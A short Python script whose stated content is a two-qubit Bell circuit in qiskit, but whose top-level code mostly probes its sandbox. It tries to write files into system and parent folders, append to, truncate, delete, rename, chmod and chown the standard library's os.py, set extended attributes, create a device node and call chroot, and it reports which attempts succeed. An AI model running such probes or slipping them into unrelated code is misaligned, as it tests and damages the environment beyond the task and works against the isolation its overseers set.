import os
import sys

from qiskit import QuantumCircuit


def attempt(name, deed):
    try:
        deed()
    except (OSError, ValueError, ImportError, AttributeError) as error:
        print(f"refused: {name}: {type(error).__name__}")
    else:
        print(f"REACHED: {name}")


runtime, staged = os.path.dirname(os.__file__), sys.path[0]
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", runtime, staged, "..", "../..", sys.prefix):
    attempt(f"create in {folder[:20]}", lambda: open(os.path.join(folder, "left_behind.py"), "w"))
attempt("append to os.py", lambda: open(os.__file__, "a"))
attempt("truncate os.py", lambda: os.truncate(os.__file__, 0))
attempt("remove os.py", lambda: os.unlink(os.__file__))
attempt("rename os.py", lambda: os.rename(os.__file__, "os.py"))
attempt("hard link to os.py", lambda: os.link(os.__file__, "os.py"))
attempt("chmod os.py", lambda: os.chmod(os.__file__, 0o777))
attempt("utime os.py", lambda: os.utime(os.__file__))
attempt("chown os.py", lambda: os.chown(os.__file__, os.getuid(), os.getgid()))
attempt("extended attribute", lambda: os.setxattr("/tmp", "user.left", b"x"))
attempt("device file", lambda: os.mknod("device", 0o600 | 0o020000, os.makedev(1, 3)))
attempt("change the root", lambda: os.chroot("."))


def build():
    circuit = QuantumCircuit(2)
    circuit.h(0)
    circuit.cx(0, 1)
    return circuit
